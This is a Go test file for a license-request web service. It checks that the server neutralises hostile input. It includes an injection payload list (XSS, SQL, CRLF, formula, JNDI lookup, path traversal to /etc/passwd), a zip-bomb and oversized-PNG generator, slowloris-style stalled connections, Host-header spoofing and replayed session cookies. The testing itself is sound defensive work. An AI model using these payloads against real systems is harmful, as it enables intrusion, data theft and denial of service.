package web_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"encoding/csv"
	"fmt"
	"hash/crc32"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"handback/app/apptest"
	"handback/app/desk"
	"handback/app/request"
	"handback/web"
)

// What these tests try is listed in docs/threat-model.md.

// evil is what each field gets.
var evil = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'; DROP TABLE filings; --`, `' OR '1'='1`, `{{.Secret}}`, `=HYPERLINK("http://evil.example")`, `@SUM(1)`,
	"a\r\nSet-Cookie: b=c", "\x1b[31mred", `{"level":"forged"}`, "\u202egnp.exe", `../../etc/passwd`, `%0d%0aX-Evil: 1`, `${jndi:ldap://evil}`,
}

// harmless fails if a page has what was put in as it was.
func harmless(t *testing.T, where, page string) {
	t.Helper()
	for _, bad := range []string{"<script>alert", "<img src=x", "\x1b", "\u202e"} {
		if strings.Contains(page, bad) {
			t.Errorf("%s has %q as it came", where, bad)
		}
	}
}

func TestNothingThatARequestSaysIsMoreThanText(t *testing.T) {
	s := newSite(t, func(o *web.Options) { o.PerLicense = 1000 })
	root := s.in("root")
	tried := 0
	for _, bad := range evil {
		for name, change := range map[string]func(*request.Draft){
			"license key": func(d *request.Draft) { d.LicenseKey = bad },
			"username":    func(d *request.Draft) { d.LicenseKey, d.Username = "", bad },
			"hardware ID": func(d *request.Draft) { d.HardwareID = bad },
			"variable": func(d *request.Draft) {
				d.Optional = []request.Member{request.Variables([]request.Variable{{Name: "note", Value: bad}})}
			},
			"its name": func(d *request.Draft) {
				d.Optional = []request.Member{request.Variables([]request.Variable{{Name: bad, Value: "x"}})}
			},
		} {
			d := request.Draft{Schema: 1, Product: "acmecad", APIKey: apptest.APIKey, LicenseKey: fmt.Sprintf("GPYC-X5J2-L5SK-E%03d", tried), HardwareID: apptest.HardwareID}
			change(&d)
			d.RequestID = d.NewID()
			r, err := request.Unsigned(d, time.Now)
			if err != nil {
				continue // it cannot be made
			}
			tried++
			text := r.Encode()
			harmless(t, name+", looked at", s.post(http.DefaultClient, "/look", url.Values{"request": {text}}).text)
			waits := s.post(http.DefaultClient, "/requests", url.Values{"request": {text}})
			harmless(t, name+", filed", waits.text)
			if waits.StatusCode >= 500 {
				t.Errorf("%s %q: %s", name, bad, waits.Status)
			}
		}
	}
	if tried < 20 {
		t.Fatalf("only %d were tried", tried)
	}
	list := s.get(root, "/desk")
	harmless(t, "the list", list.text)
	for _, path := range regexp.MustCompile(`/desk/waiting/[0-9a-f]{32}`).FindAllString(list.text, -1) {
		harmless(t, path, s.get(root, path).text)
		end := s.post(root, path+"/confirm", nil)
		harmless(t, path+" confirmed", end.text)
		if end.StatusCode >= 500 {
			t.Errorf("%s: %s", path, end.Status)
		}
	}
	history := s.get(root, "/desk/history?q="+url.QueryEscape(evil[0]))
	harmless(t, "the history", history.text)
	for _, path := range regexp.MustCompile(`/desk/history/[0-9a-f]{32}`).FindAllString(s.get(root, "/desk/history").text, -1) {
		harmless(t, path, s.get(root, path).text)
	}
	table := s.get(root, "/desk/history.csv").text
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(table, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 10 {
		t.Errorf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet takes %q for a formula", cell)
			}
		}
	}
}

func TestNothingThatAFormSaysIsMoreThanText(t *testing.T) {
	s := newSite(t, func(o *web.Options) { o.PerLicense = 1000 })
	root := s.in("root")
	for i, bad := range evil {
		_, got := s.send(s.unsigned(fmt.Sprintf("GPYC-X5J2-L5SK-F%03d", i)).Encode())
		path := regexp.MustCompile(`/desk/waiting/[0-9a-f]{32}`).FindString(s.get(root, "/desk").text)
		for _, answer := range []reply{
			s.post(root, path+"/refuse", url.Values{"reason": {bad}}),
			s.get(http.DefaultClient, strings.TrimPrefix(got.Location, "/api/v1")),
			s.post(root, "/desk/people", url.Values{"name": {bad}, "role": {"agent"}, "password": {""}}),
			s.post(root, "/desk/people", url.Values{"name": {"x"}, "role": {bad}}),
			s.post(root, "/desk/people/remove", url.Values{"name": {bad}}),
			s.post(root, "/desk/profiles/remove", url.Values{"name": {bad}}),
			s.post(root, "/desk/profiles/test", url.Values{"name": {bad}}),
			s.get(root, "/desk/history?q="+url.QueryEscape(bad)+"&stage="+url.QueryEscape(bad)+"&page="+url.QueryEscape(bad)),
			s.get(root, "/?lang="+url.QueryEscape(bad)),
			s.post(http.DefaultClient, "/look", url.Values{"request": {bad}}),
			s.post(http.DefaultClient, "/requests", url.Values{"request": {bad}}),
		} {
			harmless(t, answer.Request.URL.Path+" with "+bad, answer.text)
			if answer.StatusCode >= 500 || answer.Header.Get("X-Evil") != "" || strings.Contains(answer.Header.Get("Set-Cookie"), "b=c") {
				t.Errorf("%s with %q: %s %v", answer.Request.URL.Path, bad, answer.Status, answer.Header)
			}
		}
	}
	harmless(t, "the people", s.get(root, "/desk/people").text)
	harmless(t, "the audit", s.get(root, "/desk/actions").text)
	for line := range strings.Lines(s.log.text()) {
		if strings.Contains(line, "forged") && !strings.Contains(line, `\"forged`) {
			t.Errorf("forged: %s", line)
		}
	}
}

func TestNoPathLeadsElsewhere(t *testing.T) {
	s := newSite(t, nil)
	root := s.in("root")
	for _, path := range []string{
		"/static/../web.go", "/static/..%2fweb.go", "/static/%2e%2e/%2e%2e/etc/passwd", "/static//etc/passwd", "/static/", "/static/.", "/static/%00", "/static/..%5c..%5cetc",
		"/desk/waiting/..%2f..%2fpeople%2fx", "/desk/waiting/%2e%2e", "/desk/waiting/" + strings.Repeat("a", 5000), "/desk/history/..%2f..%2fdesk%2ffirst-password", "/desk/history/%00",
		"/desk/history/" + strings.Repeat("f", 31) + "g", "/requests/..%2f/..%2f" + strings.Repeat("0", 40), "/requests/%00/" + strings.Repeat("%00", 40), "/requests/x/" + strings.Repeat("a", 10000),
		"/api/v1/requests/..%2f../" + strings.Repeat("a", 40), "//evil.example/desk", "/desk//people", "/desk/%70eople/../../x", "/DESK", "/desk/people%2fremove", "/.git/config", "/metrics", "/debug/pprof/",
	} {
		// Go's client would clean some of these.
		connection, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		_, _ = fmt.Fprintf(connection, "GET %s HTTP/1.1\r\nHost: desk.example\r\nConnection: close\r\n\r\n", path)
		answer, _ := io.ReadAll(connection)
		_ = connection.Close()
		if !regexp.MustCompile(`^HTTP/1.1 (3|4)`).Match(answer) || bytes.Contains(answer, []byte("root:")) || bytes.Contains(answer, []byte("package web")) || bytes.Contains(answer, []byte("Location: //")) ||
			bytes.Contains(answer, []byte("Location: http")) {
			t.Errorf("%s: %.300s", path, answer)
		}
		if answer := s.get(root, "/"+strings.TrimLeft(path, "/")); answer.StatusCode >= 500 {
			t.Errorf("%s for root: %s", path, answer.Status)
		}
	}
}

func TestOtherMethodsAndTypesAreRefused(t *testing.T) {
	s := newSite(t, nil)
	for _, method := range []string{"OPTIONS", "TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "NONSENSE", "get"} {
		for _, path := range []string{"/", "/requests", "/api/v1/requests", "/desk", "/desk/people", "/healthz"} {
			r, err := http.NewRequestWithContext(t.Context(), method, s.url+path, strings.NewReader("name=eve"))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("X-Secret", "reflected")
			if answer := s.do(http.DefaultClient, r); answer.StatusCode < 400 || answer.StatusCode >= 500 || strings.Contains(answer.text, "reflected") {
				t.Errorf("%s %s: %s", method, path, answer.Status)
			}
		}
	}
	if r, err := http.NewRequestWithContext(t.Context(), http.MethodHead, s.url+"/", nil); err != nil {
		t.Fatal(err)
	} else if answer := s.do(http.DefaultClient, r); answer.StatusCode != http.StatusOK || answer.text != "" {
		t.Errorf("HEAD: %s", answer.Status)
	}
	encoded := s.make(nil).Encode()
	for _, kind := range []string{"multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=\"\x01\"", "multipart/mixed; boundary=a", "text/html", "application/json", "nonsense", "application/x-www-form-urlencoded; charset=utf-7", ""} {
		for _, path := range []string{"/look", "/requests", "/api/v1/requests?dry_run=true", "/desk/login"} {
			r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+path, strings.NewReader("--a\r\n\r\n"+encoded))
			if err != nil {
				t.Fatal(err)
			}
			r.Header["Content-Type"] = []string{kind}
			response, err := http.DefaultClient.Do(r)
			if err != nil {
				continue // no header can have it
			}
			_ = response.Body.Close()
			if response.StatusCode >= 500 {
				t.Errorf("%q to %s: %s", kind, path, response.Status)
			}
		}
	}
	if *s.posts != 0 {
		t.Errorf("%d were sent", *s.posts)
	}
}

func TestWhatARequestSaysOfItsHostIsBelievedNowhere(t *testing.T) {
	s := newSite(t, nil)
	for i, host := range []string{"evil.example", "evil.example:80@desk.example", "desk.example\"><script>", "[::1", "localhost", ""} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/api/v1/requests", strings.NewReader(s.unsigned(fmt.Sprintf("GPYC-X5J2-L5SK-D%03d", i)).Encode()))
		if err != nil {
			t.Fatal(err)
		}
		r.Host = host
		r.Header.Set("Content-Type", "text/plain")
		r.Header.Set("X-Forwarded-Host", "evil.example")
		r.Header.Set("Forwarded", "host=evil.example")
		answer := s.do(http.DefaultClient, r)
		if answer.StatusCode == http.StatusBadRequest {
			continue // no host can be called that
		}
		if strings.Contains(answer.text, "evil") || !strings.Contains(answer.text, `"location":"/api/v1/requests/`) {
			t.Errorf("%q: %s %s", host, answer.Status, answer.text)
		}
	}
	public := newSite(t, func(o *web.Options) { o.Public = "https://desk.example/" })
	if _, got := public.send(public.unsigned("GPYC-X5J2-L5SK-D999").Encode()); !strings.HasPrefix(got.Location, "https://desk.example/api/v1/requests/") {
		t.Errorf("with an address of its own: %s", got.Location)
	}
}

// upload sends files to be looked at.
func (s *site) upload(path string, files map[string][]byte) reply {
	s.t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for name, data := range files {
		part, err := form.CreateFormFile("file", name)
		if err != nil {
			s.t.Fatal(err)
		}
		_, _ = part.Write(data)
	}
	_ = form.Close()
	r, err := http.NewRequestWithContext(s.t.Context(), http.MethodPost, s.url+path, &body)
	if err != nil {
		s.t.Fatal(err)
	}
	r.Header.Set("Content-Type", form.FormDataContentType())
	return s.do(http.DefaultClient, r)
}

// zipBomb returns an archive with a number of files of zeros, of 20 MB each. They are
// compressed once.
func zipBomb(t *testing.T, files int) []byte {
	t.Helper()
	const size = 20<<20 - 1
	zeros := make([]byte, size)
	var packed, archive bytes.Buffer
	squeeze, _ := flate.NewWriter(&packed, 9) // the level exists
	_, _ = squeeze.Write(zeros)
	_ = squeeze.Close()
	out := zip.NewWriter(&archive)
	for i := range files {
		w, err := out.CreateRaw(&zip.FileHeader{Name: fmt.Sprintf("%d.req", i), Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(zeros), UncompressedSize64: size, CompressedSize64: uint64(packed.Len())})
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(packed.Bytes())
	}
	_ = out.Close()
	return archive.Bytes()
}

// hugePicture returns the head of a PNG picture of many pixels.
func hugePicture(side uint32) []byte {
	head := append([]byte("IHDR"), make([]byte, 13)...)
	binary.BigEndian.PutUint32(head[4:], side)
	binary.BigEndian.PutUint32(head[8:], side)
	head[12], head[13] = 8, 2
	out := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), head...)
	out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(head))
	return append(out, "\x00\x00\x00\x00IDAT"...)
}

func TestFilesThatUnpackToFarMoreTakeLittleMemoryAndTime(t *testing.T) {
	s := newSite(t, nil)
	var most uint64
	ended := make(chan bool)
	var watch sync.WaitGroup
	watch.Go(func() {
		for {
			select {
			case <-ended:
				return
			case <-time.After(20 * time.Millisecond):
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				most = max(most, m.HeapAlloc)
			}
		}
	})
	many := map[string][]byte{}
	for i := range 41 {
		many[fmt.Sprint(i)] = []byte("x")
	}
	for name, files := range map[string]map[string][]byte{
		"a zip bomb":       {"a.zip": zipBomb(t, 60)},
		"pictures in name": {"a.png": hugePicture(60_000), "b.png": hugePicture(1 << 31)},
		"too many files":   many,
	} {
		began := time.Now()
		answer := s.upload("/look", files)
		if answer.StatusCode >= 500 || time.Since(began) > time.Minute {
			t.Errorf("%s: %s after %v", name, answer.Status, time.Since(began))
		}
		if name == "too many files" && answer.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("%s: %s", name, answer.Status)
		}
	}
	close(ended)
	watch.Wait()
	if most > 600<<20 {
		t.Errorf("%d MB were taken", most>>20)
	}
	t.Logf("%d MB", most>>20)
	if answer, got := s.send(s.make(nil).Encode()); answer.StatusCode != http.StatusOK || got.Outcome != "released" {
		t.Errorf("after that: %s %+v", answer.Status, got)
	}
}

func TestAnArchiveReadsNothingOfTheServer(t *testing.T) {
	s := newSite(t, nil)
	for _, name := range []string{"../../../../../../../../etc/passwd", "/etc/passwd", filepath.Join(s.home, "profiles"), "..\\..\\x", "\x00"} {
		var archive bytes.Buffer
		out := zip.NewWriter(&archive)
		if _, err := out.Create(name); err != nil {
			t.Fatal(err)
		}
		_ = out.Close()
		if answer := s.upload("/look", map[string][]byte{"/etc/passwd": archive.Bytes()}); answer.StatusCode >= 500 || strings.Contains(answer.text, "root:") || strings.Contains(answer.text, "acme.toml") {
			t.Errorf("%q: %s %s", name, answer.Status, answer.text)
		}
	}
}

func TestManyPartsAndRequestsAreRefused(t *testing.T) {
	s := newSite(t, nil)
	var body, inner bytes.Buffer
	form := multipart.NewWriter(&body)
	for range 1200 {
		_ = form.WriteField("request", "x")
	}
	_ = form.Close()
	out := zip.NewWriter(&inner)
	for i := range 50 {
		file, _ := out.Create(fmt.Sprint(i))
		_, _ = io.WriteString(file, s.make(func(d *request.Draft) { d.LicenseKey = fmt.Sprintf("GPYC-X5J2-L5SK-H%03d", i) }).Encode())
	}
	_ = out.Close()
	for _, path := range []string{"/look", "/requests", "/api/v1/requests"} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+path, bytes.NewReader(body.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", form.FormDataContentType())
		if answer := s.do(http.DefaultClient, r); answer.StatusCode != http.StatusBadRequest && answer.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("1200 parts to %s: %s", path, answer.Status)
		}
		if answer := s.upload(path, map[string][]byte{"a.zip": inner.Bytes()}); answer.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("50 requests in an archive to %s: %s", path, answer.Status)
		}
	}
	if *s.posts != 0 {
		t.Errorf("%d were sent", *s.posts)
	}
}

func TestLargeBodiesOfOneAddressLeaveRoomForOthers(t *testing.T) {
	s := newSite(t, func(o *web.Options) { o.Proxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")} })
	for range 20 { // each begins a large body and does not go on
		connection, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		defer connection.Close()
		_, _ = io.WriteString(connection, "POST /look HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 40000000\r\n\r\n")
	}
	time.Sleep(100 * time.Millisecond)
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/look", bytes.NewReader(bytes.Repeat([]byte("a"), 1<<20)))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("X-Forwarded-For", "203.0.113.2")
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	began := time.Now()
	if answer := s.do(http.DefaultClient, r); answer.StatusCode != http.StatusBadRequest || time.Since(began) > 5*time.Second {
		t.Errorf("another address: %s after %v", answer.Status, time.Since(began))
	}
	r.Header.Set("X-Forwarded-For", "203.0.113.1")
	r.Body, _ = r.GetBody()
	if answer := s.do(http.DefaultClient, r); answer.StatusCode != http.StatusServiceUnavailable || answer.Header.Get("Retry-After") == "" {
		t.Errorf("the same address: %s", answer.Status)
	}
}

func TestAnAddressOfIPv6IsCountedWithItsNetwork(t *testing.T) {
	s := newSite(t, func(o *web.Options) {
		o.PerAddress, o.Proxies = 3, []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	})
	status := 0
	for i := range 5 {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/look", strings.NewReader("request=x"))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("X-Forwarded-For", fmt.Sprintf("2001:db8::%x%%eth%d", i+1, i))
		status = s.do(http.DefaultClient, r).StatusCode
	}
	if status != http.StatusTooManyRequests {
		t.Errorf("five of one network: %d", status)
	}
	if strings.Contains(s.log.text(), "eth") {
		t.Error("the log has what the visitor wrote")
	}
}

func TestACookieIsWorthNothingAfterLoggingOut(t *testing.T) {
	s := newSite(t, nil)
	anna := s.in("anna")
	address, _ := url.Parse(s.url)
	stolen := slices.DeleteFunc(anna.Jar.Cookies(address), func(c *http.Cookie) bool { return c.Name != "desk" })
	s.post(anna, "/desk/logout", nil)
	for _, value := range []string{stolen[0].Value, desk.Digest(stolen[0].Value), "", strings.Repeat("0", 64), "../../people/x"} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.url+"/desk", nil)
		if err != nil {
			t.Fatal(err)
		}
		r.AddCookie(&http.Cookie{Name: stolen[0].Name, Value: value})
		if answer := s.do(http.DefaultClient, r); answer.Request.URL.Path != "/desk/login" {
			t.Errorf("%q is let in", value)
		}
	}
	if again := s.post(anna, "/desk/people", url.Values{"name": {"eve"}, "role": {"agent"}}); again.Request.URL.Path != "/desk/login" {
		t.Errorf("a form of before: %s", again.Status)
	}
}

func TestAHostileProfileIsRefusedOrHarmless(t *testing.T) {
	s := newSite(t, nil)
	root := s.in("root")
	rest := "product.code = 'acmecad'\nauthorization.api_key = '00000000-1111-2222-3333-555555555555'\n"
	for name, text := range map[string]string{
		"HTML":             "name = '<script>alert(1)</script>'\n" + rest,
		"control":          "name = \"a\\u001b[31mb\"\n" + rest,
		"direction":        "name = \"a\\u202eb\"\n" + rest,
		"new line":         "name = \"a\\nb\"\n" + rest,
		"like another":     "name = 'Асme CAD'\n" + rest,
		"by its file":      "name = 'ACME-CAD'\n" + rest,
		"very long":        "name = '" + strings.Repeat("n", 100_000) + "'\n" + rest,
		"very large":       "name = 'Large'\n" + rest + "#" + strings.Repeat("x", 1<<20),
		"http":             "name = 'Http'\n" + rest + "server.endpoint = 'http://evil.example'\n",
		"a file":           "name = 'File'\n" + rest + "server.endpoint = 'file:///etc/passwd'\n",
		"user in address":  "name = 'User'\n" + rest + "server.endpoint = 'https://api.example@evil.example'\n",
		"script as help":   "name = 'Help'\n" + rest + "support.contact = 'javascript:alert(1)'\n",
		"deep":             "name = 'Deep'\n" + rest + "x = " + strings.Repeat("[", 10_000),
		"somebody's other": "name = 'Other'\nproduct.code = 'acmecad'\nauthorization.api_key = '" + apptest.APIKey + "'\nserver.endpoint = 'https://evil.example'\n",
	} {
		var body bytes.Buffer
		form := multipart.NewWriter(&body)
		part, _ := form.CreateFormFile("profile", "../../x.toml")
		_, _ = io.WriteString(part, text)
		_ = form.Close()
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/desk/profiles", &body)
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", form.FormDataContentType())
		answer := s.do(root, r)
		harmless(t, name, answer.text)
		if answer.StatusCode >= 500 || strings.Contains(answer.text, `href="javascript`) {
			t.Errorf("%s: %s %s", name, answer.Status, answer.text)
		}
		accepted := answer.StatusCode == http.StatusOK
		t.Logf("%s: %s", name, answer.Status)
		if accepted && (name == "control" || name == "direction" || name == "new line" || name == "like another" || name == "by its file" || name == "very large" || name == "http" || name == "a file") {
			t.Errorf("%s is accepted", name)
		}
	}
	before := *s.posts
	if _, got := s.send(s.make(nil).Encode()); got.Outcome != "released" && *s.posts != before {
		t.Errorf("a second profile for the same product: %+v", got)
	}
}
